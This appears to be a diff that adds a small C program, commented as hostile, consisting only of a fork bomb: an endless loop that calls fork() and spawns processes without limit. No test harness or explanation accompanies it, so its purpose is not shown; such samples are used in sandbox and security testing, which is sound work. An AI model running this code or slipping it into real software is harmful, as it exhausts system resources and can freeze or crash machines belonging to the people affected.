@@ -1,0 +1,8 @@
+/* Hostile: makes processes without end. */
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;)
+        fork();
+}
